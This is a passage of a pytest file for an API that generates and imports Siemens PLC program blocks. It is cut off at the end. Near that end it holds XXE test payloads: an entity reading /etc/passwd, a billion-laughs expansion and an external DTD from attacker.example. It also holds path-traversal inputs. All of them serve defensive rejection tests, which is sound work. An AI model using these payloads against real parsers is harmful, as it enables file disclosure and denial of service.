"""Block Generation: generate-only (spec, templates, GRAPH), generate-and-import (+ async twin),
import-only, bulk-import (+ async twin), templates, generate-from-design."""

from __future__ import annotations

import copy
import json
from pathlib import Path
from typing import Any

import pytest
from litestar.testing import TestClient

from engineering_api.app import create_app
from engineering_api.backend.errors import EngineeringError
from engineering_api.config import Settings
from simatic_xml import parse_bytes
from simatic_xml.objects import Block, PlcStruct
from tests.conftest import CPU, HMI, add_device, assert_error, data, interface_of, job_error, run_job, simaticml_object

DATA = Path(__file__).parent / "data"
"""The design specs these tests use, as JSON files."""

BOM = b"\xef\xbb\xbf"
TEMPLATES = ("motor_starter", "valve", "pid_wrapper", "alarm", "state_machine", "graph_sequence")

FC_SCL = {
    "blockType": "FC", "name": "FC_Scale", "language": "SCL",
    "interface": {"Input": [{"name": "Raw", "dataType": "Int"}], "Output": [{"name": "Scaled", "dataType": "Real"}]},
    "networks": [{"title": "Scale", "scl": "#Scaled := INT_TO_REAL(#Raw) / 27648.0 * 100.0;"}],
}
UDT = {
    "blockType": "UDT", "name": "UDT_Motor",
    "interface": {"None": [{"name": "Speed", "dataType": "Real"}, {"name": "Running", "dataType": "Bool"}]},
}
FB_LAD = {
    "blockType": "FB", "name": "FB_Motor", "language": "LAD", "number": 10,
    "interface": {
        "Input": [{"name": "Start", "dataType": "Bool"}, {"name": "Stop", "dataType": "Bool"}],
        "Output": [{"name": "Run", "dataType": "Bool"}],
        "Static": [{"name": "Data", "dataType": '"UDT_Motor"'}, {"name": "T1", "dataType": "TON_TIME"}],
    },
    "networks": [
        {"title": "Run", "lad": [[{"parallel": [[{"contact": "#Start"}], [{"contact": "#Run"}]]},
                                  {"contact": "#Stop", "negated": True}, {"coil": "#Run"}]]},
        {"lad": [[{"contact": "#Run"}, {"box": "TON", "instance": "#T1", "inputs": {"PT": "T#5s"}}]]},
    ],
}
GLOBAL_DB = {
    "blockType": "GlobalDB", "name": "DB_Data",
    "interface": {"Static": [{"name": "Count", "dataType": "Int", "startValue": 5},
                             {"name": "Buf", "dataType": "Array[0..9] of Int", "retain": True}]},
}
INSTANCE_DB = {"blockType": "InstanceDB", "name": "DB_Motor", "instanceOf": "FB_Motor"}
OB_MAIN = {
    "blockType": "OB", "name": "Main", "number": 1, "language": "SCL", "secondaryType": "ProgramCycle",
    "networks": [{"scl": '"DB_Motor"();', "calls": {"DB_Motor": {"blockType": "FB", "block": "FB_Motor"}}}],
}

DESIGN = json.loads((DATA / "pump_and_valve_design.json").read_text(encoding="utf-8"))


class Shared:
    """One app for the tests that only generate (creating an app per test costs ~0.2 s)."""

    def __init__(self, client: TestClient, headers: dict[str, str], viewer: dict[str, str]) -> None:
        self.client, self.headers, self.viewer = client, headers, viewer


@pytest.fixture(scope="module")
def shared(tmp_path_factory):
    settings = Settings.from_env(data_dir=tmp_path_factory.mktemp("blockgen"))
    with TestClient(create_app(settings)) as client:
        keys = client.app.state.services.keys
        yield Shared(client, {"X-API-Key": keys.create("shared-engineer", "engineer")[1]},
                     {"X-API-Key": keys.create("shared-viewer", "viewer")[1]})


DESIGN_ONE = {**DESIGN, "modules": DESIGN["modules"][:1]}



def _gen(client, headers, body, route="generate-only"):
    return client.post(f"/api/blockgeneration/{route}", json=body, headers=headers)


def _import(client, headers, body, route="generate-and-import"):
    return client.post(f"/api/blockgeneration/{route}", json=body, headers=headers)


def _objects(services, device="PLC_1"):
    return {o.name: o for o in services.backend.program.list_program_objects(device)}


def assert_pump_imported(services, documents, tag_table: str) -> None:
    """PLC_1 holds the generated pump, consistent: the tag table, FB_Motor, its instance DB Pump1 and Main, each
    exported as the document generated for it."""
    objects = _objects(services)
    assert {n: o.kind for n, o in objects.items()} == {tag_table: "TagTable", "FB_Motor": "FB", "Pump1": "InstanceDB", "Main": "OB"}
    assert objects["Pump1"].instance_of == "FB_Motor"
    assert all(o.consistent for o in objects.values())
    for document in documents:
        assert services.backend.program.export_program_object("PLC_1", document["name"]) == BOM + document["xml"].encode("utf-8")


def _xml_of(client, headers, spec, version="V19") -> bytes:
    """Generated XML bytes, as TIA would write the file (with the UTF-8 BOM)."""
    block = data(_gen(client, headers, {"spec": spec, "targetVersion": version}))
    return BOM + block["xml"].encode("utf-8")


def _new_portal(client, headers, version, *, device=True):
    """Detach the default V19 portal, launch one of ``version`` and create a project in it (with PLC_1)."""
    data(client.post("/api/instance/actions/detach", headers=headers))
    data(client.post("/api/instance/actions/launch", json={"version": version}, headers=headers))
    project = data(client.post("/api/projects/actions/create-sync", json={"name": f"P{version}"}, headers=headers))
    assert project["version"] == version
    if device:
        add_device(client, headers, CPU, "PLC_1")


# ----- generate-only ---------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("spec", "element", "language"),
    [(FC_SCL, "FC", "SCL"), (FB_LAD, "FB", "LAD"), (GLOBAL_DB, "GlobalDB", "DB"), (UDT, "PlcStruct", None),
     (OB_MAIN, "OB", "SCL"), (INSTANCE_DB, "InstanceDB", "DB")],
    ids=["scl-fc", "lad-fb", "global-db", "udt", "ob", "instance-db"],
)
def test_generate_only_from_a_spec_rereads(shared, spec, element, language):
    client, headers = shared.client, shared.headers
    block = data(_gen(client, headers, {"spec": spec}))
    assert block["name"] == spec["name"]
    assert block["fileName"] == f"{spec['name']}.xml"
    assert block["version"] == "V19"  # no project open: the generator's default
    assert block["language"] == language
    assert block["writtenTo"] is None
    doc = parse_bytes(block["xml"].encode("utf-8"))
    assert type(doc.object).__name__ == element
    assert doc.object.name == spec["name"]
    assert doc.engineering_version == "V19"
    if language not in (None, "DB"):
        assert doc.object.attr("ProgrammingLanguage") == language
    if "number" in spec:
        assert doc.object.attr("Number") == spec["number"]
    if element == "InstanceDB":
        assert doc.object.attr("InstanceOfName") == "FB_Motor"


def test_generate_only_spec_details_survive(shared):
    client, headers = shared.client, shared.headers
    block = data(_gen(client, headers, {"spec": GLOBAL_DB}))
    members = {m.name: m for s in interface_of(simaticml_object(block["xml"], Block)).sections.sections
               for m in s.members}
    assert members["Count"].datatype == "Int"
    assert members["Buf"].datatype == "Array[0..9] of Int"


@pytest.mark.parametrize("template", TEMPLATES)
def test_generate_only_from_each_template(shared, template):
    client, headers = shared.client, shared.headers
    version = "V18" if template == "graph_sequence" else "V19"
    block = data(_gen(client, headers, {"template": template, "targetVersion": version}))
    doc = parse_bytes(block["xml"])
    assert type(doc.object).__name__ == "FB" == block["blockType"]
    assert doc.object.name == block["name"]
    assert doc.engineering_version == version == block["version"]
    assert doc.object.attr("ProgrammingLanguage") == block["language"]


def test_template_parameters_apply(shared):
    client, headers = shared.client, shared.headers
    block = data(_gen(client, headers, {"template": "valve", "parameters": {"blockName": "FB_Inlet", "discrepancyTime": "T#3s"}}))
    assert block["name"] == "FB_Inlet" and block["fileName"] == "FB_Inlet.xml"
    assert parse_bytes(block["xml"]).object.name == "FB_Inlet"
    assert "T#3s" in block["xml"]


@pytest.mark.parametrize("version", ["V16", "V17", "V18", "V19", "V20", "V21"])
def test_generate_only_target_versions(shared, version):
    client, headers = shared.client, shared.headers
    block = data(_gen(client, headers, {"spec": FB_LAD, "targetVersion": version}))
    assert block["version"] == version
    assert f'<Engineering version="{version}" />' in block["xml"]
    assert parse_bytes(block["xml"]).engineering_version == version


def test_the_documented_example_generates(shared):
    example = shared.client.app.state.services.operations.get("blockgeneration.generate-only").example
    block = data(_gen(shared.client, shared.headers, example))
    assert block["name"] == "FC_Scale"


def test_an_fc_assigns_its_return_value_through_its_own_name(shared):
    """TIA SCL sets a function's value as #<FunctionName> := ...; Ret_Val is the member's name, not an operand."""
    spec = {"blockType": "FC", "name": "FC_Scale", "language": "SCL", "returnType": "Real",
            "interface": {"Input": [{"name": "Raw", "dataType": "Int"}]},
            "networks": [{"scl": "#FC_Scale := INT_TO_REAL(#Raw);"}]}
    block = data(_gen(shared.client, shared.headers, {"spec": spec}))
    assert 'Name="Ret_Val" Datatype="Real"' in block["xml"]
    spec["networks"] = [{"scl": "#Ret_Val := INT_TO_REAL(#Raw);"}]
    body = assert_error(_gen(shared.client, shared.headers, {"spec": spec}), 422, "INVALID_SPEC")
    assert body["details"]["field"] == "networks[0].scl" and "Ret_Val" in body["message"]


def test_every_network_error_is_reported_where_the_user_wrote_it(shared):
    """All findings of all networks, each with its network number and the line and column in that network's text."""
    spec = {"blockType": "FC", "name": "FC_Bad", "language": "SCL", "returnType": "Int",
            "networks": [{"scl": "#FC_Bad := #nope;"}, {"scl": "#FC_Bad := 2;\n  #FC_Bad := ;"},
                         {"scl": "IF TRUE THEN\n   #also := 1;\nEND_IF;"}]}
    body = assert_error(_gen(shared.client, shared.headers, {"spec": spec}), 422, "INVALID_SPEC")
    assert body["details"]["field"] == "networks[0].scl" and "(and 2 more error(s)" in body["message"]
    found = [(d["network"], d["line"], d["column"], d["code"], d["block"]) for d in body["details"]["diagnostics"]]
    assert found == [(1, 1, 12, "UNDECLARED", "FC_Bad"), (2, 2, 14, "SYNTAX_ERROR", "FC_Bad"),
                     (3, 2, 4, "UNDECLARED", "FC_Bad")]


@pytest.mark.parametrize("version", ["V15", "V14SP1", "V99"])
def test_generate_only_unsupported_versions(shared, version):
    client, headers = shared.client, shared.headers
    body = assert_error(_gen(client, headers, {"spec": FC_SCL, "targetVersion": version}), 422, "VERSION_CANNOT_EXPRESS")
    assert body["details"]["field"] == "version"


def test_generate_only_defaults_to_the_open_projects_version(client, admin_headers):
    data(client.post("/api/instance/actions/detach", headers=admin_headers))
    data(client.post("/api/instance/actions/launch", json={"version": "V18"}, headers=admin_headers))
    data(client.post("/api/projects/actions/create-sync", json={"name": "Old"}, headers=admin_headers))
    block = data(_gen(client, admin_headers, {"spec": FC_SCL}))
    assert block["version"] == "V18"
    assert '<Engineering version="V18" />' in block["xml"]


def test_generate_only_without_a_portal_uses_the_default_version_but_no_other_error(client, admin_headers,
                                                                                   services, monkeypatch):
    """No portal (or no project) is why there is no project version to follow: the generator's default serves.
    Any other failure to read the open projects is the answer, not a block made for a version nobody asked."""
    data(client.post("/api/instance/actions/detach", headers=admin_headers))
    assert data(_gen(client, admin_headers, {"spec": FC_SCL}))["version"] == "V19"

    def failing() -> Any:
        raise EngineeringError("the Openness call GetProjects failed", code="OPENNESS_ERROR")

    monkeypatch.setattr(services.backend, "open_projects", failing)
    assert_error(_gen(client, admin_headers, {"spec": FC_SCL}), 500, "OPENNESS_ERROR")


def test_generate_only_writes_the_output_file(client, engineer_headers, workspace):
    block = data(_gen(client, engineer_headers, {"spec": FC_SCL, "outputPath": "out/FC_Scale.xml"}))
    target = workspace / "out" / "FC_Scale.xml"
    assert block["writtenTo"] == str(target)
    written = target.read_bytes()
    assert written == BOM + block["xml"].encode("utf-8")
    assert parse_bytes(written).object.name == "FC_Scale"
    # An existing file is not overwritten.
    assert_error(_gen(client, engineer_headers, {"spec": FC_SCL, "outputPath": "out/FC_Scale.xml"}), 409)
    assert target.read_bytes() == written


@pytest.mark.parametrize("path", ["../../FC.xml", "/etc/FC.xml"])
def test_generate_only_output_outside_the_roots(shared, path):
    client, headers = shared.client, shared.headers
    body = assert_error(_gen(client, headers, {"spec": FC_SCL, "outputPath": path}), 422, "PATH_REJECTED")
    assert body["details"]["field"] in ("output_path", "outputPath")
    assert body["details"]["reason"]


def test_path_errors_name_the_field_as_sent(shared):
    body = assert_error(_gen(shared.client, shared.headers, {"spec": FC_SCL, "outputPath": "../x.xml"}), 422, "PATH_REJECTED")
    assert body["details"]["field"] == "outputPath"


def test_generate_only_output_must_be_xml(client, engineer_headers, workspace):
    assert_error(_gen(client, engineer_headers, {"spec": FC_SCL, "outputPath": "out/FC.txt"}), 422, "PATH_REJECTED")
    assert not (workspace / "out" / "FC.txt").exists()


# ----- bad specs -------------------------------------------------------------------------------
def _with(spec: dict[str, Any], **changes: Any) -> dict[str, Any]:
    return {**copy.deepcopy(spec), **changes}


BAD_SPECS = [
    ("block-type", _with(FC_SCL, blockType="Program"), "blockType"),
    ("data-type", _with(FC_SCL, interface={"Input": [{"name": "Raw", "dataType": "Intt"}]}), "interface.Input[0].dataType"),
    ("duplicate-member", _with(FC_SCL, interface={"Input": [{"name": "Raw", "dataType": "Int"}, {"name": "raw", "dataType": "Int"}]}),
     "interface.Input[1].name"),
    ("duplicate-across-sections", _with(FC_SCL, interface={"Input": [{"name": "Raw", "dataType": "Int"}],
                                                          "Temp": [{"name": "RAW", "dataType": "Real"}]}), "interface.Temp[0].name"),
    ("forbidden-member-name", _with(FC_SCL, interface={"Input": [{"name": "Ra\"w", "dataType": "Int"}]}), "interface.Input[0].name"),
    ("forbidden-block-name", _with(FC_SCL, name="FC/Scale"), "name"),
    ("graph-reserved-name", _with(FC_SCL, blockType="FB", language="GRAPH", interface={"Static": [{"name": "INIT_SQ", "dataType": "Bool"}]},
                                  networks=[{"graph": {"steps": [], "transitions": []}}]), "interface.Static[0].name"),
    ("undeclared-scl-operand", _with(FC_SCL, networks=[{"scl": "#Scaled := INT_TO_REAL(#Nope);"}]), "networks[0].scl"),
    ("undeclared-lad-operand", _with(FB_LAD, networks=[{"lad": [[{"contact": "#Start"}, {"coil": "#Missing"}]]}]),
     "networks[0].lad[0][1].coil"),
    ("language-for-type", _with(FC_SCL, language="GRAPH"), "language"),
    ("language-for-db", _with(GLOBAL_DB, language="SCL"), "language"),
    ("network-language", _with(FC_SCL, networks=[{"lad": [[{"contact": "#Raw"}]]}]), "networks[0].lad"),
    ("unknown-field", _with(FC_SCL, colour="red"), "colour"),
]


@pytest.mark.parametrize(("spec", "field"), [(s, f) for _, s, f in BAD_SPECS], ids=[i for i, _, _ in BAD_SPECS])
def test_bad_specs_name_the_field(shared, spec, field):
    client, headers = shared.client, shared.headers
    body = assert_error(_gen(client, headers, {"spec": spec}), 422, "INVALID_SPEC")
    assert body["details"]["field"] == field
    assert body["details"]["reason"]
    assert body["message"].startswith(field)


@pytest.mark.parametrize(("datatype", "value"), [("Bool", 5), ("Int", "abc"), ("Int", 99999), ("Time", "5")])
def test_a_start_value_must_fit_its_type(shared, datatype, value):
    spec = _with(GLOBAL_DB, interface={"Static": [{"name": "V", "dataType": datatype, "startValue": value}]})
    body = assert_error(_gen(shared.client, shared.headers, {"spec": spec}), 422, "INVALID_SPEC")
    assert body["details"]["field"] == "interface.Static[0].startValue"


def test_a_udt_cannot_contain_itself(shared):
    spec = {"blockType": "UDT", "name": "UDT_Loop", "interface": {"None": [{"name": "Next", "dataType": '"UDT_Loop"'}]}}
    body = assert_error(_gen(shared.client, shared.headers, {"spec": spec}), 422, "INVALID_SPEC")
    assert body["details"]["field"] == "interface.None[0].dataType"


def test_graph_for_v19_cannot_be_expressed(shared):
    client, headers = shared.client, shared.headers
    for route in ("generate-only", "generate-graph-only"):
        body = assert_error(
            _gen(client, headers, {"template": "graph_sequence", "targetVersion": "V19"}, route), 422, "VERSION_CANNOT_EXPRESS"
        )
        assert body["details"]["field"] == "version"
        assert "V19" in body["message"]


@pytest.mark.parametrize("body", [{"spec": FC_SCL, "template": "valve"}, {}, {"parameters": {"blockName": "X"}}], ids=["both", "neither", "params-only"])
def test_spec_and_template_exactly_one(shared, body):
    client, headers = shared.client, shared.headers
    assert assert_error(_gen(client, headers, body), 422, "INVALID_SPEC")["details"]["field"] == "spec"


def test_unknown_template_and_bad_parameters(shared):
    client, headers = shared.client, shared.headers
    body = assert_error(_gen(client, headers, {"template": "nope"}), 422, "INVALID_SPEC")
    assert body["details"]["field"] == "template"
    assert "valve" in body["message"]  # names the available templates
    body = assert_error(_gen(client, headers, {"template": "valve", "parameters": {"colour": 1}}), 422, "INVALID_SPEC")
    assert body["details"]["field"] == "parameters.colour"
    body = assert_error(_gen(client, headers, {"template": "valve", "parameters": {"discrepancyTime": "5s"}}), 422)
    assert body["details"]["field"] == "parameters.discrepancyTime"


def test_a_bad_template_parameter_is_named_as_sent(shared):
    # TIA's header fields take blanks and more than 8 characters ("SIEMENS SUP Applications" in TIA's own
    # exports); a line break is what no header field can hold.
    bad = "John\nSmith"
    body = assert_error(_gen(shared.client, shared.headers, {"template": "motor_starter", "parameters": {"author": bad}}),
                        422, "INVALID_SPEC")
    assert body["details"]["field"] == "parameters.author"
    design = {"modules": [{"name": "P1", "template": "motor_starter", "parameters": {"author": bad}}]}
    body = assert_error(_from_design(shared.client, shared.headers, {"design": design}), 422, "INVALID_SPEC")
    assert body["details"]["field"] == "modules[0].parameters.author"


@pytest.mark.parametrize("route", ["generate-only", "generate-graph-only"])
def test_prompt_needs_an_assistant(shared, route):
    client, headers = shared.client, shared.headers
    assert_error(_gen(client, headers, {"prompt": "a motor starter with a feedback timeout"}, route), 501, "PROMPT_NOT_SUPPORTED")


def test_prompt_with_a_template_uses_the_template(shared):
    client, headers = shared.client, shared.headers
    block = data(_gen(client, headers, {"prompt": "ignored", "template": "alarm"}))
    assert block["name"] == "FB_Alarm"


def test_a_bad_body_is_422(shared):
    client, headers = shared.client, shared.headers
    assert_error(_gen(client, headers, {"spec": "not an object"}), 422)
    assert_error(_gen(client, headers, {"template": "valve", "targetVersion": 19}), 422)


# ----- GRAPH routes ----------------------------------------------------------------------------
@pytest.mark.parametrize("version", ["V17", "V18", "V21"])
def test_generate_graph_only(shared, version):
    client, headers = shared.client, shared.headers
    block = data(_gen(client, headers, {"template": "graph_sequence", "parameters": {"blockName": "Seq_Tank"},
                                               "targetVersion": version}, "generate-graph-only"))
    assert (block["name"], block["language"], block["version"]) == ("Seq_Tank", "GRAPH", version)
    doc = parse_bytes(block["xml"])
    assert doc.object.attr("ProgrammingLanguage") == "GRAPH"
    assert doc.engineering_version == version


def test_generate_graph_only_refuses_other_languages(shared):
    client, headers = shared.client, shared.headers
    body = assert_error(_gen(client, headers, {"template": "valve", "targetVersion": "V18"}, "generate-graph-only"), 422, "INVALID_SPEC")
    assert body["details"]["field"] == "language"


def test_generate_graph_only_sets_the_language(shared):
    client, headers = shared.client, shared.headers
    spec = copy.deepcopy(data(client.get("/api/blockgeneration/templates?name=graph_sequence", headers=shared.viewer))[0]["spec"])
    spec.pop("language")
    block = data(_gen(client, headers, {"spec": spec, "targetVersion": "V21"}, "generate-graph-only"))
    assert block["language"] == "GRAPH"


def test_generate_graph_imports_into_a_v18_project(client, admin_headers, services):
    _new_portal(client, admin_headers, "V18")
    result = data(_import(client, admin_headers, {"template": "graph_sequence", "parameters": {"blockName": "Seq_Tank"},
                                                  "deviceName": "PLC_1"}, "generate-graph"))
    assert result["block"]["version"] == "V18"  # the open project's version
    assert [r["status"] for r in result["reports"]] == ["Imported"]
    assert _objects(services)["Seq_Tank"].language == "GRAPH"


def test_generate_graph_in_a_v19_project_is_422(client, engineer_headers, cpu, services):
    body = assert_error(_import(client, engineer_headers, {"template": "graph_sequence", "deviceName": "PLC_1"}, "generate-graph"),
                        422, "VERSION_CANNOT_EXPRESS")
    assert body["details"]["field"] == "version"
    assert _objects(services) == {}


# ----- every template imports back and re-exports identically ---------------------------------
@pytest.mark.parametrize("version", ["V17", "V18", "V19", "V20", "V21"])
def test_every_template_round_trips_through_the_model(client, admin_headers, services, version):
    """Each template (GRAPH where the version can express it) is generated and imported into its own
    PLC of a project of ``version``; the stored object exports to exactly the generated bytes."""
    if version == "V19":
        data(client.post("/api/projects/actions/create-sync", json={"name": "RT"}, headers=admin_headers))
    else:
        _new_portal(client, admin_headers, version, device=False)
    templates = [t for t in TEMPLATES if t != "graph_sequence" or version in ("V17", "V18", "V21")]
    for template in templates:
        plc = f"PLC_{template}"
        add_device(client, admin_headers, CPU, plc)
        result = data(_import(client, admin_headers, {"template": template, "deviceName": plc}))
        block = result["block"]
        assert block["version"] == version  # the open project's
        assert [(r["source"], r["status"], r["name"], r["kind"]) for r in result["reports"]] == [
            (block["fileName"], "Imported", block["name"], "FB")
        ]
        exported = services.backend.program.export_program_object(plc, block["name"])
        assert exported == BOM + block["xml"].encode("utf-8"), template
        assert parse_bytes(exported).engineering_version == version
    assert len(templates) == (6 if version in ("V17", "V18", "V21") else 5)


# ----- generate-and-import ---------------------------------------------------------------------
def test_generate_and_import_then_overwrite(client, engineer_headers, cpu, services):
    result = data(_import(client, engineer_headers, {"spec": FC_SCL, "deviceName": "PLC_1"}))
    assert result["block"]["name"] == "FC_Scale"
    assert [(r["source"], r["status"], r["name"], r["kind"]) for r in result["reports"]] == [
        ("FC_Scale.xml", "Imported", "FC_Scale", "FC")
    ]
    assert _objects(services)["FC_Scale"].language == "SCL"
    # Same name again without overwrite: 409, the stored block is unchanged.
    before = services.backend.program.export_program_object("PLC_1", "FC_Scale")
    changed = _with(FC_SCL, networks=[{"scl": "#Scaled := INT_TO_REAL(#Raw);"}])
    assert_error(_import(client, engineer_headers, {"spec": changed, "deviceName": "PLC_1"}), 409, "OBJECT_EXISTS")
    assert services.backend.program.export_program_object("PLC_1", "FC_Scale") == before
    # With overwrite the block is replaced.
    result = data(_import(client, engineer_headers, {"spec": changed, "deviceName": "PLC_1", "overwrite": True}))
    after = services.backend.program.export_program_object("PLC_1", "FC_Scale")
    assert after != before
    assert after == BOM + result["block"]["xml"].encode("utf-8")
    assert list(_objects(services)) == ["FC_Scale"]


def test_generate_and_import_errors(client, engineer_headers, admin_headers, services):
    body = {"spec": FC_SCL, "deviceName": "PLC_1"}
    assert_error(_import(client, engineer_headers, body), 409, "NO_PROJECT_OPEN")
    data(client.post("/api/projects/actions/create-sync", json={"name": "Line1"}, headers=admin_headers))
    assert_error(_import(client, engineer_headers, body), 404, "DEVICE_NOT_FOUND")
    add_device(client, admin_headers, HMI, "HMI_1")
    assert_error(_import(client, engineer_headers, {**body, "deviceName": "HMI_1"}), 422, "NOT_A_PLC")
    add_device(client, admin_headers, CPU, "PLC_1")
    bad = assert_error(_import(client, engineer_headers, {**body, "spec": _with(FC_SCL, blockType="X")}), 422, "INVALID_SPEC")
    assert bad["details"]["field"] == "blockType"
    assert_error(_import(client, engineer_headers, {"prompt": "a motor", "deviceName": "PLC_1"}), 501, "PROMPT_NOT_SUPPORTED")
    assert_error(_import(client, engineer_headers, {"spec": FC_SCL}), 422)  # deviceName is required
    assert _objects(services) == {}


def test_generate_and_import_block_number_clash(client, engineer_headers, cpu, services):
    data(_import(client, engineer_headers, {"spec": UDT, "deviceName": "PLC_1"}))
    data(_import(client, engineer_headers, {"spec": FB_LAD, "deviceName": "PLC_1"}))
    other = _with(FB_LAD, name="FB_Other")
    assert_error(_import(client, engineer_headers, {"spec": other, "deviceName": "PLC_1"}), 409, "BLOCK_NUMBER_IN_USE")
    assert "FB_Other" not in _objects(services)


def test_two_auto_numbered_templates_import_into_one_plc(client, engineer_headers, cpu, services):
    data(_import(client, engineer_headers, {"template": "valve", "deviceName": "PLC_1"}))
    data(_import(client, engineer_headers, {"template": "alarm", "deviceName": "PLC_1"}))
    objects = _objects(services)
    assert {objects["FB_Valve"].number, objects["FB_Alarm"].number} == {1, 2}


def test_explicit_numbers_do_not_clash(client, engineer_headers, cpu, services):
    data(_import(client, engineer_headers, {"spec": _with(FC_SCL, number=5), "deviceName": "PLC_1"}))
    data(_import(client, engineer_headers, {"spec": _with(FC_SCL, name="FC_Other", number=6), "deviceName": "PLC_1"}))
    assert {n: o.number for n, o in _objects(services).items()} == {"FC_Scale": 5, "FC_Other": 6}


def test_generate_and_import_writes_the_output_file_too(client, engineer_headers, cpu, workspace):
    result = data(_import(client, engineer_headers, {"spec": FC_SCL, "deviceName": "PLC_1", "outputPath": "gen/FC_Scale.xml"}))
    assert (workspace / "gen" / "FC_Scale.xml").read_bytes() == BOM + result["block"]["xml"].encode("utf-8")


def test_generate_and_import_async(client, engineer_headers, cpu, services):
    job = run_job(client, "POST", "/api/blockgeneration/generate-and-import-async", engineer_headers,
                  json={"template": "valve", "deviceName": "PLC_1"})
    assert job["status"] == "Completed", job
    assert job["operation"] == "blockgeneration.generate-and-import"
    sync = data(_import(client, engineer_headers, {"template": "valve", "deviceName": "PLC_1", "overwrite": True}))
    assert set(job["result"]) == set(sync) == {"block", "reports"}
    assert job["result"]["block"] == sync["block"]
    assert [r["status"] for r in job["result"]["reports"]] == ["Imported"]
    assert "FB_Valve" in _objects(services)


def test_generate_and_import_async_failure(client, engineer_headers, cpu):
    job = run_job(client, "POST", "/api/blockgeneration/generate-and-import-async", engineer_headers,
                  json={"template": "valve", "deviceName": "PLC_9"})
    assert job["status"] == "Failed"
    assert job_error(job)["code"] == "DEVICE_NOT_FOUND"
    assert job_error(job)["status"] == 404


def test_viewer_cannot_generate_or_import(client, viewer_headers, cpu, services):
    assert_error(_gen(client, viewer_headers, {"spec": FC_SCL}), 403, "FORBIDDEN")
    assert_error(_import(client, viewer_headers, {"spec": FC_SCL, "deviceName": "PLC_1"}), 403, "FORBIDDEN")
    assert_error(_import(client, viewer_headers, {"deviceName": "PLC_1", "directory": "x"}, "bulk-import"), 403, "FORBIDDEN")


# ----- import-only -----------------------------------------------------------------------------
def test_import_only_by_file_path(client, engineer_headers, cpu, services, workspace):
    xml = _xml_of(client, engineer_headers, FC_SCL)
    (workspace / "blocks").mkdir()
    (workspace / "blocks" / "FC_Scale.xml").write_bytes(xml)
    reports = data(_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "blocks/FC_Scale.xml"}, "import-only"))
    assert [(r["source"], r["status"], r["name"], r["kind"]) for r in reports] == [("FC_Scale.xml", "Imported", "FC_Scale", "FC")]
    assert services.backend.program.export_program_object("PLC_1", "FC_Scale") == xml
    # Again: exists; with overwrite: replaced.
    assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "blocks/FC_Scale.xml"}, "import-only"),
                 409, "OBJECT_EXISTS")
    data(_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "blocks/FC_Scale.xml", "overwrite": True}, "import-only"))


def test_import_only_inline_xml(client, engineer_headers, cpu, services):
    xml = _xml_of(client, engineer_headers, UDT)
    reports = data(_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": xml.decode("utf-8-sig")}, "import-only"))
    assert [(r["status"], r["name"], r["kind"]) for r in reports] == [("Imported", "UDT_Motor", "UDT")]
    assert services.backend.program.export_program_object("PLC_1", "UDT_Motor") == xml


def test_import_only_errors(client, engineer_headers, cpu, services, workspace):
    (workspace / "a.xml").write_bytes(_xml_of(client, engineer_headers, FC_SCL))
    assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1"}, "import-only"), 422)
    assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "a.xml", "xml": "<Document/>"}, "import-only"), 422)
    body = assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "missing.xml"}, "import-only"), 404, "FILE_NOT_FOUND")
    assert body["details"]["field"] in ("file_path", "filePath")  # see test_path_errors_name_the_field_as_sent
    assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "../../a.xml"}, "import-only"), 422, "PATH_REJECTED")
    assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": "not xml"}, "import-only"), 422, "INVALID_SIMATICML")
    assert_error(_import(client, engineer_headers, {"deviceName": "PLC_9", "filePath": "a.xml"}, "import-only"), 404, "DEVICE_NOT_FOUND")
    assert _objects(services) == {}


XXE = """<?xml version="1.0"?>
<!DOCTYPE Document [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>
<Document><Engineering version="V19" /><SW.Types.PlcStruct ID="0"><AttributeList><Name>&xxe;</Name></AttributeList></SW.Types.PlcStruct></Document>"""
LAUGHS = """<?xml version="1.0"?>
<!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;&lol;">]>
<Document><Engineering version="V19" /><SW.Types.PlcStruct ID="0"><AttributeList><Name>&lol2;</Name></AttributeList></SW.Types.PlcStruct></Document>"""
EXTERNAL_DTD = """<?xml version="1.0"?>
<!DOCTYPE Document SYSTEM "http://attacker.example/evil.dtd">
<Document><Engineering version="V19" /></Document>"""


@pytest.mark.parametrize("payload", [XXE, LAUGHS, EXTERNAL_DTD], ids=["xxe", "billion-laughs", "external-dtd"])
def test_import_only_refuses_doctype_payloads(client, engineer_headers, cpu, services, workspace, payload):
    body = assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": payload}, "import-only"), 422, "INVALID_SIMATICML")
    assert "passwd" not in body["message"] and "lollol" not in body["message"]
    (workspace / "evil.xml").write_text(payload, encoding="utf-8")
    assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1", "filePath": "evil.xml"}, "import-only"), 422)
    assert _objects(services) == {}


def test_import_only_refuses_a_newer_document(client, engineer_headers, cpu, services):
    xml = _xml_of(client, engineer_headers, UDT, version="V21")
    body = assert_error(_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": xml.decode("utf-8-sig")}, "import-only"),
                        422, "NEWER_VERSION")
    assert "V21" in body["message"]
    assert _objects(services) == {}


def test_an_older_document_is_stored_in_the_projects_version(client, engineer_headers, cpu, services):
    xml = _xml_of(client, engineer_headers, UDT, version="V17")
    data(_import(client, engineer_headers, {"deviceName": "PLC_1", "xml": xml.decode("utf-8-sig")}, "import-only"))
    exported = services.backend.program.export_program_object("PLC_1", "UDT_Motor")
    stored = parse_bytes(exported)
    assert stored.engineering_version == "V19"
    assert stored.object.name == "UDT_Motor"
    assert isinstance(stored.object, PlcStruct)
    assert [m.name for s in interface_of(stored.object).sections.sections for m in s.members] == ["Speed", "Running"]


# ----- bulk-import -----------------------------------------------------------------------------
def _write_program(client, headers, workspace, folder="program") -> dict[str, bytes]:
    """A UDT, an FB using it, an instance DB of the FB and an OB calling it, named so that the
    sorted (given) order is OB, DB, FB, UDT: the instance DB would fail before its FB."""
    root = workspace / folder
    root.mkdir(parents=True)
